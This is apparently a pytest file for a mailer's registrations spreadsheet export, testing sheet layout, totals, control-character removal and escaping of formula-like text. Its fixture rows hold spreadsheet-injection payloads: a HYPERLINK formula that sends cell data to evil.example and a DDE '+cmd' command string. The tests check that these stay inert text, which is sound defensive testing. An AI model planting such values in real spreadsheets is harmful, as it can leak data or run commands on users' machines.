"""The registrations workbook: sheets, headers, values, layout and formula-injection safety."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from mailer.spreadsheet import safe_cell, workbook

COLUMNS = ("event", "country", "status", "name", "email", "organisation", "certificate",
           "attended")
ROWS = [
    {"event": "africa-fr", "country": "SN", "status": "confirmed", "name": "Zoë Ñúñez-Øre",
     "email": "zoe@justice.gouv.sn", "organisation": "Ministère de la Justice",
     "certificate": True, "attended": ""},
    {"event": "africa-fr", "country": "SN", "status": "waiting",
     "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "email": "x@evil.example",
     "organisation": "+cmd|' /C calc'!A0", "certificate": False, "attended": False},
    {"event": "africa-fr", "country": "CI", "status": "review", "name": "Jean\x07 Koffi",
     "email": "jean@justice.gouv.ci", "organisation": "@SUM(1+1)", "certificate": False,
     "attended": True},
]
TOTALS = [{"event": "africa-fr", "country": "CI", "limit": 4, "confirmed": 0, "waiting": 0,
           "review": 1, "rejected": 0, "cancelled": 0},
          {"event": "africa-fr", "country": "SN", "limit": 4, "confirmed": 1, "waiting": 1,
           "review": 0, "rejected": 0, "cancelled": 0}]


def test_registrations_sheet_has_header_and_one_row_per_registration() -> None:
    """The first sheet has the columns as a bold header and each registration's values."""
    sheet = load_workbook(io.BytesIO(workbook(ROWS, TOTALS, COLUMNS)))["Registrations"]
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == COLUMNS
    assert sheet["A1"].font.bold
    assert values[1] == ("africa-fr", "SN", "confirmed", "Zoë Ñúñez-Øre", "zoe@justice.gouv.sn",
                         "Ministère de la Justice", True, None)
    assert len(values) == 4 and values[3][7] is True


def test_sheet_is_frozen_filterable_and_sized() -> None:
    """The header row is frozen, filterable, and columns are wide enough for their text."""
    sheet = load_workbook(io.BytesIO(workbook(ROWS, TOTALS, COLUMNS)))["Registrations"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:H4"
    assert sheet.column_dimensions["F"].width >= len("Ministère de la Justice")
    assert 8 <= sheet.column_dimensions["B"].width <= 12


def test_totals_sheet_lists_limit_and_counts_per_event_and_country() -> None:
    """The Totals sheet has one row per event and country with the limit and status counts."""
    sheet = load_workbook(io.BytesIO(workbook(ROWS, TOTALS, COLUMNS)))["Totals"]
    assert list(sheet.iter_rows(values_only=True)) == [
        ("event", "country", "limit", "confirmed", "waiting", "review", "rejected",
         "cancelled"),
        ("africa-fr", "CI", 4, 0, 0, 1, 0, 0),
        ("africa-fr", "SN", 4, 1, 1, 0, 0, 0)]


def test_formula_like_text_from_mail_stays_text() -> None:
    """Names and organisations starting with =, + or @ are stored as quoted strings."""
    sheet = load_workbook(io.BytesIO(workbook(ROWS, TOTALS, COLUMNS)))["Registrations"]
    name, organisation = sheet["D3"], sheet["F3"]
    assert name.value == '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert name.data_type == "s" and name.quotePrefix
    assert organisation.value == "+cmd|' /C calc'!A0" and organisation.data_type == "s"
    assert sheet["F4"].value == "@SUM(1+1)" and sheet["F4"].quotePrefix


def test_control_characters_are_dropped_instead_of_breaking_the_file() -> None:
    """A control character in a name is removed so the workbook can be written and read."""
    sheet = load_workbook(io.BytesIO(workbook(ROWS, TOTALS, COLUMNS)))["Registrations"]
    assert sheet["D4"].value == "Jean Koffi"


def test_empty_export_has_headers_only() -> None:
    """With no registrations both sheets still have their header rows."""
    book = load_workbook(io.BytesIO(workbook([], [], COLUMNS)))
    assert [list(book[s].iter_rows(values_only=True)) for s in ("Registrations", "Totals")] == [
        [COLUMNS], [("event", "country", "limit", "confirmed", "waiting", "review", "rejected",
                     "cancelled")]]


def test_safe_cell_quotes_formula_starts_for_csv_and_keeps_the_rest() -> None:
    """``safe_cell`` prefixes an apostrophe to text a spreadsheet would run, and nothing else."""
    assert safe_cell("=HYPERLINK(\"http://x\")") == "'=HYPERLINK(\"http://x\")"
    assert [safe_cell(v) for v in ("+1", "-2", "@A1", "\tx", "\rx")] == [
        "'+1", "'-2", "'@A1", "'\tx", "'\rx"]
    assert [safe_cell(v) for v in ("Awa Diop", "", 4, True, None)] == [
        "Awa Diop", "", 4, True, None]
